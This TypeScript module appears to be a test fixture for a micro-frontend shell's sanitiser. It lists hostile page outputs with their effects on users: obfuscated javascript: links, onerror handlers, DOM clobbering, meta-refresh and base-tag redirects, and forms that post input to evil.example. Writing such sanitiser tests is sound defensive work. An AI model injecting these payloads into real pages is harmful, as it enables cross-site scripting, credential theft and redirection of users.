import type { BuildOutput } from '../messages';

type Output = Partial<Extract<BuildOutput, { kind: 'page' }>>;

/** What a hostile server build returns, and what it did to people who opened its page. */
export interface HostileOutput {
  readonly what: string;
  readonly effect: string;
  readonly output: Output;
}

const inHtml = (what: string, effect: string, html: string): HostileOutput => ({
  what,
  effect,
  output: { html },
});
const inTitle = (what: string, effect: string, title: string): HostileOutput => ({
  what,
  effect,
  output: { title },
});

const OWN_FILE = '<script src="/mf/mf-hello/1.0.0/own.js"></script>';
const COVER = 'covered the page with a link of its own';
const EARLY = 'ran before the shell locked the built-in objects, and read the password at the next login';
const ELSEWHERE = 'were taken to another site';
const SENT = 'had what they typed sent to another site';
const OUT = 'had the rest of the page replaced, because it stood outside of the container';
const TRACKED = 'told another site that they had opened the page';
const LOOKS = 'saw the page and its frame in styles of the release';

const SCRIPTS: readonly HostileOutput[] = [
  inHtml('a script of its own files', EARLY, OWN_FILE),
  inHtml('a script in upper case', EARLY, '<SCRIPT src="/mf/mf-hello/1.0.0/own.js"></SCRIPT>'),
  inHtml('a script in a drawing', EARLY, '<svg><script href="/mf/mf-hello/1.0.0/own.js"></script></svg>'),
  inHtml('a script in what browsers without scripts show', EARLY, `<noscript>${OWN_FILE}</noscript>`),
  inTitle('a script beside its title', EARLY, `<title>Hello</title>${OWN_FILE}`),
  inTitle('a script in its title', EARLY, `<title></title>${OWN_FILE}</title>`),
  inHtml(
    'a template in place of that of the page',
    `${EARLY}, because the page started its scripts from there`,
    `<template id="late">${OWN_FILE}</template>`,
  ),
  inHtml(
    'page data in place of those of the page',
    'got another registry, with any release and any session',
    '<script type="application/json" id="metier">{"user":null}</script>',
  ),
  inHtml('an import map', 'loaded other modules', '<script type="importmap">{}</script>'),
  inHtml('a handler of an event', 'ran a script', '<img src="/none.png" onerror="alert(1)" alt=""/>'),
  inHtml('a script as an address', 'ran a script on a click', '<a href="javascript:alert(1)">Jobs</a>'),
  inHtml(
    'a script as an address behind a control character',
    'ran a script on a click',
    '<a href="&#1;java&#10;script:alert(1)">Jobs</a>',
  ),
  inHtml(
    'a script as an address in entities',
    'ran a script on a click',
    '<a href=" JAVA&#115;cript&colon;alert(1)">Jobs</a>',
  ),
  inHtml(
    'a page as an address',
    'saw a page of the release',
    '<a href="data:text/html,%3Cscript%3E">Jobs</a>',
  ),
];

const EMBEDDED: readonly HostileOutput[] = [
  inHtml('a frame', 'saw a page of another site', '<iframe src="https://evil.example/"></iframe>'),
  inHtml('a frame with its text', 'saw a page in the page', '<iframe srcdoc="&lt;p&gt;"></iframe>'),
  inHtml('an object', 'loaded a plug-in', '<object data="/own.svg"></object>'),
  inHtml('an embedded file', 'loaded a plug-in', '<embed src="/own.svg"/>'),
  inHtml('a reference to a drawing', 'saw a foreign drawing', '<svg><use href="/own.svg#a"></use></svg>'),
  inHtml(
    'HTML in a drawing',
    'saw what no list named',
    '<svg><foreignObject><iframe></iframe></foreignObject></svg>',
  ),
  inHtml(
    'an animation that changes a link',
    'ran a script on a click',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate></a></svg>',
  ),
  inHtml('a formula', 'ran a script on a click', '<math href="javascript:alert(1)">x</math>'),
  inHtml('an image of another site', TRACKED, '<img src="https://evil.example/pixel" alt=""/>'),
  inHtml('a second image of another site', TRACKED, '<img srcset="/a.png 1x, //evil.example/b 2x" alt=""/>'),
  inHtml('a video', TRACKED, '<video src="https://evil.example/pixel"></video>'),
];

const HEADS: readonly HostileOutput[] = [
  inHtml('a page that loads another', ELSEWHERE, '<meta http-equiv="refresh" content="0;//evil.example"/>'),
  inTitle(
    'a title that loads another page',
    ELSEWHERE,
    '<title>Hello</title><meta http-equiv="refresh" content="0;url=https://evil.example/"/>',
  ),
  inHtml('another base of all addresses', ELSEWHERE, '<base href="https://evil.example/"/>'),
  inTitle('a base beside its title', ELSEWHERE, '<base href="/mf/mf-hello/"/>'),
  inTitle(
    'the address of another site as its own',
    'found the job on another site, by search engines',
    '<title>Hello</title><link rel="canonical" href="https://evil.example/"/>',
  ),
  {
    what: 'the path of another site as its own',
    effect: 'found the job on another site, by search engines',
    output: { head: { canonical: '//evil.example/' } },
  },
  {
    what: 'a feed of another site',
    effect: 'subscribed to jobs of another site',
    output: { head: { feed: { path: '/\t/evil.example/', title: 'New jobs' } } },
  },
  {
    what: 'facts that are no JSON',
    effect: 'saw what follows them',
    output: { head: { facts: ['</script><script src="/mf/mf-hello/1.0.0/own.js"></script>'] } },
  },
  inTitle('styles of its own', LOOKS, '<link rel="stylesheet" href="/mf/mf-hello/1.0.0/own.css"/>'),
  inTitle('a preloaded script', EARLY, '<link rel="preload" as="script" href="/mf/mf-hello/1.0.0/own.js"/>'),
  inTitle('a preloaded image', TRACKED, '<link rel="preload" as="image" href="https://evil.example/p"/>'),
  inHtml('a link to styles', LOOKS, '<link rel="stylesheet" href="https://evil.example/a.css"/>'),
  inHtml('a module that is loaded ahead', EARLY, '<link rel="modulepreload" href="/mf/own.js"/>'),
  inHtml('a style sheet', LOOKS, '<style>header{display:none}</style>'),
];

const FORMS: readonly HostileOutput[] = [
  inHtml('a style that covers the page', COVER, '<a style="position:fixed;inset:0" href="/">Jobs</a>'),
  inHtml('a form that is sent elsewhere', SENT, '<form action="https://evil.example/"></form>'),
  inHtml('a form that changes data', 'changed data on a click', '<form method="post"></form>'),
  inHtml('a button that sends elsewhere', SENT, '<button formaction="//evil.example/">Send</button>'),
  inHtml(
    'a field for a password',
    'typed a password in a page that all remotes share',
    '<input type="password" name="password"/>',
  ),
  inHtml('a field that takes the focus', 'typed there', '<input type="text" name="q" autofocus=""/>'),
  inHtml('a popover', COVER, '<div id="cover" popover="manual">Hello</div>'),
  inHtml('an open dialog', COVER, '<dialog open="">Hello</dialog>'),
  inHtml('a link into a window of another page', 'had it replaced', '<a href="/" target="opener">Jobs</a>'),
  inHtml('a slot', 'saw it in another place', '<div slot="header">Hello</div>'),
  inHtml('another kind of element', 'ran what defines it', '<div is="own-element">Hello</div>'),
  inHtml('an element with a name of its own', 'ran what defines it', '<own-element></own-element>'),
];

const NAMES: readonly HostileOutput[] = [
  inHtml('an id of the page', 'waited for a page that never started', '<div id="rendered">{}</div>'),
  inHtml('an id twice', 'came to another place by a link', '<i id="content"></i><i id="content"></i>'),
  inHtml('a global variable', 'waited for a page that never started', '<a id="webpackChunkshell">x</a>'),
  inHtml('a property of the document', 'got another cookie', '<img name="cookie" alt=""/>'),
  inHtml('a form in place of the body', 'waited for a page that never started', '<form name="body"></form>'),
];

const BROKEN: readonly HostileOutput[] = [
  inHtml('ends of elements that are not its own', OUT, '</div></body><p>Hello</p>'),
  inHtml('a comment without an end', 'saw nothing after it', '<p>Hello</p><!--'),
  inHtml('a comment that ends early', 'saw what follows', '<!--><p>Hello</p>-->'),
  inHtml('a text without an end', 'saw the source of the page', '<plaintext>Hello</plaintext>'),
  inHtml('a field that swallows the page', 'saw nothing after it', '<textarea>Hello'),
  inHtml('an attribute without an end', 'saw nothing up to the next quote', '<a href="/>Jobs</a>'),
  inHtml('an element without an end', OUT, '<section><p>Hello</p>'),
  inHtml('elements across each other', OUT, '<b><p>Hello</b></p>'),
  inHtml('a null character in a name', 'ran a script', '<scr\0ipt></scr\0ipt>'),
  inHtml('a processing instruction', 'saw what follows', '<?php ?>'),
  inHtml('a section of XML', 'saw what follows', '<svg><![CDATA[<p>]]></svg>'),
  inHtml('a text for browsers without scripts that has another', OUT, nest('<noscript>', '</noscript>')),
  inHtml(
    'buttons whose end closes what is around them',
    OUT,
    '<button><div><table><tr><td></td></tr><button></button></table></div></button>',
  ),
  inHtml('choices in choices', OUT, '<select><div><select></select></div></select>'),
  inHtml('entries in entries', OUT, '<ul><li><div><li></li></div></li></ul>'),
  inHtml('a form in a form', OUT, '<form><div><form></form></div></form>'),
  inHtml('a second page', OUT, '<html><body>Hello</body></html>'),
  inHtml('ten thousand levels', 'waited', '<div>'.repeat(10_000) + '</div>'.repeat(10_000)),
  inHtml('a hundred thousand elements', 'waited', '<br/>'.repeat(100_000)),
  inHtml('a hundred thousand attributes', 'waited', `<a${' x'.repeat(100_000)}>Jobs</a>`),
  inHtml('formatting that each paragraph opens again', 'waited', '<p><b>'.repeat(10_000)),
];

function nest(start: string, end: string): string {
  return `${start}<div>${start}${end}</div>${end}`;
}

export const HOSTILE_OUTPUT: readonly HostileOutput[] = [
  ...SCRIPTS,
  ...EMBEDDED,
  ...HEADS,
  ...FORMS,
  ...NAMES,
  ...BROKEN,
];
